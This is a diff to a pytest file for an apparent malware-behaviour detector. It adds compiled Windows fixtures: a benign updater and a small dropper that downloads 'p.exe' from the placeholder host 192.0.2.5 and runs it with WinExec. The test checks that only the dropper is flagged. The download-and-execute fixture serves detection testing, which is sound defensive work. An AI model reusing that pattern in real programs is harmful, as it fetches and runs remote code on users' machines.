@@ -260,3 +260,50 @@ def test_elf_curl_then_system_in_one_function(tmp_path: Path, strip: bool) -> No
 def test_curl_binary_is_a_network_tool(tmp_path: Path) -> None:
     dropper = _curl_program(tmp_path, "curl", CURL_DROPPER, [])
     assert _runs(dropper) and behaviours(findings_of(dropper)) == {}
+
+
+WINDOWS = r"""
+#include <windows.h>
+#include <urlmon.h>
+%s
+"""
+WIN_DROPPER = (
+    WINDOWS
+    % r"""
+int main(void) {
+    URLDownloadToFileA(0, "http://192.0.2.5/p.exe", "C:\\Users\\Public\\p.exe", 0, 0);
+    return WinExec("C:\\Users\\Public\\p.exe", 0);
+}
+"""
+)
+WIN_UPDATER = (
+    WINDOWS
+    % r"""
+__attribute__((noinline)) int fetch(void) {
+    return URLDownloadToFileA(0, "https://example.com/u.msi", "u.msi", 0, 0);
+}
+__attribute__((noinline)) int start(void) { return WinExec("notepad.exe readme.txt", 1); }
+int main(void) { return fetch() || start(); }
+"""
+)
+
+
+def _windows_program(tmp_path: Path, name: str, source: str) -> Path:
+    (tmp_path / f"{name}.c").write_text(source)
+    out = tmp_path / f"{name}.exe"
+    command = ["x86_64-w64-mingw32-gcc", "-O2", "-o", str(out), str(tmp_path / f"{name}.c")]
+    try:
+        subprocess.run([*command, "-lurlmon"], check=True, capture_output=True)
+    except FileNotFoundError:
+        pytest.skip("MinGW is not installed (see .ci/system-packages)")
+    return out
+
+
+def test_pe_download_then_winexec_without_function_starts(tmp_path: Path) -> None:
+    # PE has no function starts: the sweep runs from the download to the run, and a return
+    # in between (the updater's two functions) ends it
+    dropper = _windows_program(tmp_path, "dropper", WIN_DROPPER)
+    assert _runs(dropper) == [("URLDownloadToFileA", "WinExec", False)]
+    assert set(behaviours(findings_of(dropper))) == {"capability.behavior-download-run"}
+    updater = _windows_program(tmp_path, "updater", WIN_UPDATER)
+    assert _runs(updater) == []
